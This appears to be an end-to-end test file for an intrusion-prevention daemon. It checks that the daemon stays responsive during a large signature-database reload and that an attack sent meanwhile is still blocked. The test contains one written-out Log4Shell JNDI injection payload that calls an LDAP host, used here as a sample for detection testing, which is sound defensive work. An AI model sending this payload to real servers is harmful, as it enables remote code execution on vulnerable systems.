/**
 * Issue 14: a database reload never stalls protection. The real daemon in a test namespace
 * reloads a large generated rules file (compiled in the worker, src/signatures/offthread.ts)
 * while a probe inside the namespace pings the control socket and GETs /metrics every 50 ms, and
 * an attacker sends Log4Shell to a real HTTP server during the reload: every probe answers within
 * BOUND_MS, and the attacker is blocked before the reload finishes (by the active ruleset).
 *
 * Why BOUND_MS = 2000: the main thread's own slices during a reload are <= 4 ms, but a probe
 * also waits for the scheduling of two processes, and the machines this runs on are shared (2
 * cores, up to 8 test suites, load averages near 20: there an idle daemon's probes already take
 * up to ~0.5 s and single ones over 1 s were seen during the reload). What the bound must
 * separate is the old design, where the loop was held for the whole compile: the test asserts
 * that the compile took longer than BOUND_MS (stats.compileMs), so an in-thread compile (or any
 * stall as long as the compile) would fail it. The probe figures are printed for the record.
 */
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { writeFileSync, mkdtempSync, rmSync } from 'node:fs';
import { join } from 'node:path';
import { tmpdir } from 'node:os';
import { createTestNet, type Host, type TestNet } from './netns.js';
import { startDaemon, ROOT, type DaemonHandle } from './daemon.js';
import { alertsOf, blockedSet, waitFor } from './observe.js';
import { controlCall } from '../../src/service/control-client.js';

const BOUND_MS = 2000;
// Large enough that the compile stays well over BOUND_MS on a machine twice as fast as this one
// (100k of these rules: ~6 s here, ~200k automaton states of the 262k limit); 25k stopped being
// enough once the compiler got faster (1.5–2 s).
const RULES = 100_000;
const CLIENT = join(ROOT, 'test', 'e2e', 'tools', 'tcp-client.mjs');
const PROBE = join(ROOT, 'test', 'e2e', 'tools', 'responsiveness-probe.mjs');

/** RULES distinct content rules on port 8080, one in ten with a pcre (rebuilt on the main thread after the compile). */
function bigRules(): string {
  const lines: string[] = [];
  for (let i = 0; i < RULES; i++) {
    const id = i.toString(36).padStart(4, '0');
    const pcre = i % 10 === 0 ? ` pcre:"/gen-${id}=[a-z]{2,8}\\d+/i";` : '';
    lines.push(`alert tcp any any -> any 8080 (msg:"GEN ${i}"; flow:to_server,established; content:"gen-${id}=";${pcre} sid:${6_000_000 + i}; rev:1;)`);
  }
  return lines.join('\n') + '\n';
}

let net: TestNet;
let attacker: Host;
let prot: Host;
let daemon: DaemonHandle;
let server: ReturnType<Host['spawn']> | undefined;
let dir: string;
let rulesFile: string;

before(async () => {
  dir = mkdtempSync(join(tmpdir(), 'bulwark-reload-worker-'));
  rulesFile = join(dir, 'big.rules');
  writeFileSync(rulesFile, 'alert tcp any any -> any 8080 (msg:"GEN seed"; flow:to_server,established; content:"gen-seed="; sid:5999999; rev:1;)\n');
  net = await createTestNet(['attacker', 'protected']);
  attacker = net.host('attacker');
  prot = net.host('protected');
  server = prot.spawn(process.execPath, ['-e', "require('http').createServer((q,s)=>{s.end('hello\\n')}).listen(8080,'0.0.0.0')"]);
  await waitFor('HTTP server', async () => ((await prot.exec('ss', ['-Hltn', '( sport = :8080 )'])).stdout.trim() !== '' ? true : undefined));
  daemon = await startDaemon(prot, {
    config: { protection: { enabled: true }, interfaces: ['eth0'], databases: { rules: [rulesFile] } },
    readyTimeoutMs: 30_000,
  });
  await daemon.waitForLog((e) => e.msg === 'protection enabled', 20_000);
});

after(async () => {
  await daemon.destroy();
  server?.kill();
  await net.destroy();
  rmSync(dir, { recursive: true, force: true });
});

interface Sample {
  kind: 'ping' | 'metrics';
  at: number;
  ms: number;
  ok: boolean;
}

test(`a reload of ${RULES} rules keeps the control socket and /metrics answering within ${BOUND_MS} ms, and an attack during it is blocked`, async () => {
  const before = ((await daemon.call('db.info')) as { signatures: number }).signatures;
  const probe = prot.spawn(process.execPath, [PROBE, JSON.stringify({ socket: daemon.socket, url: `${daemon.metricsUrl}/metrics`, everyMs: 50 })], { stdio: ['ignore', 'pipe', 'pipe'] });
  let out = '';
  probe.stdout?.setEncoding('utf8');
  probe.stdout?.on('data', (d: string) => (out += d));
  const closed = new Promise<void>((r) => probe.on('exit', () => { r(); }));
  await waitFor('probe running', () => (out.split('\n').length > 4 ? true : undefined), 10_000);

  // Baseline: the idle daemon's probe latency on this machine, for the record.
  await new Promise((r) => setTimeout(r, 3000));
  const idle = out.split('\n').filter((l) => l.startsWith('{"kind"')).map((l) => (JSON.parse(l) as Sample).ms);
  writeFileSync(rulesFile, bigRules());
  const t0 = Date.now();
  const reloading = controlCall(daemon.socket, 'db.reload', {}, { timeoutMs: 300_000 }) as Promise<{ reloaded: boolean; signatures: number; compileMs: number }>;
  let t1 = 0;
  void reloading.then(() => (t1 = Date.now()), () => (t1 = Date.now()));
  // The attack, once the compile is under way.
  await new Promise((r) => setTimeout(r, 300));
  const r = await attacker.exec(process.execPath, [CLIENT, JSON.stringify({ host: prot.ip4, port: 8080, payload: 'GET / HTTP/1.1\r\nHost: protected\r\nUser-Agent: ${jndi:ldap://203.0.113.66/a}\r\n\r\n' })], { timeoutMs: 20_000 });
  assert.equal(r.code, 0, r.stderr);
  const ev = await waitFor('Log4Shell blocked during the reload', () => alertsOf<{ src_ip: string; alert: { action: string; signature: string } }>(daemon).find((a) => a.src_ip === attacker.ip4 && a.alert.action === 'blocked'), 20_000);
  assert.match(ev.alert.signature, /Log4Shell/);
  assert.ok((await blockedSet(prot)).includes(attacker.ip4), 'attacker in the kernel set');
  const tBlocked = Date.now();

  const res = await reloading;
  probe.kill('SIGTERM');
  await closed;
  assert.ok(tBlocked < t1, `the attack was blocked (${tBlocked - t0} ms) before the reload finished (${t1 - t0} ms)`);
  assert.equal(res.reloaded, true);
  assert.equal(res.signatures, before - 1 + RULES, 'the new ruleset is active: the seed rule replaced by the generated ones');
  assert.ok(res.compileMs > BOUND_MS, `the compile took ${res.compileMs} ms: longer than the bound, so an in-thread compile would have broken it`);

  const samples = out.split('\n').filter((l) => l.startsWith('{"kind"')).map((l) => JSON.parse(l) as Sample);
  const during = samples.filter((s) => s.at >= t0 && s.at <= t1);
  const pings = during.filter((s) => s.kind === 'ping');
  const scrapes = during.filter((s) => s.kind === 'metrics');
  // One probe per 50 ms (plus its own latency): a stalled loop would leave few samples.
  const expected = Math.floor((t1 - t0) / (50 + BOUND_MS));
  assert.ok(pings.length >= expected && scrapes.length >= expected, `${pings.length} pings and ${scrapes.length} scrapes over ${t1 - t0} ms`);
  const failed = during.filter((s) => !s.ok);
  assert.deepEqual(failed, [], 'every probe answered');
  const worst = (xs: Sample[]): number => Math.max(...xs.map((s) => s.ms));
  const slow = during.filter((s) => s.ms >= BOUND_MS).map((s) => `${s.kind} at +${s.at - t0} ms: ${s.ms} ms`);
  if (slow.length > 0) console.log(`idle daemon: slowest probe ${Math.max(...idle)} ms; `, `slow probes: ${slow.join('; ')}\n${daemon.logs().filter((l) => /database|ruleset|protection|capture/.test(l)).slice(-30).join('\n')}`);
  assert.ok(worst(pings) < BOUND_MS, `slowest ping ${worst(pings)} ms over ${pings.length} (reload ${t1 - t0} ms)`);
  assert.ok(worst(scrapes) < BOUND_MS, `slowest /metrics ${worst(scrapes)} ms over ${scrapes.length}`);
  console.log(`idle daemon: ${idle.length} probes, slowest ${Math.max(...idle)} ms; reload of ${RULES} rules: ${t1 - t0} ms (compile ${res.compileMs} ms); ${pings.length} pings, slowest ${worst(pings)} ms; ${scrapes.length} scrapes, slowest ${worst(scrapes)} ms; attack blocked at +${tBlocked - t0} ms`);
});
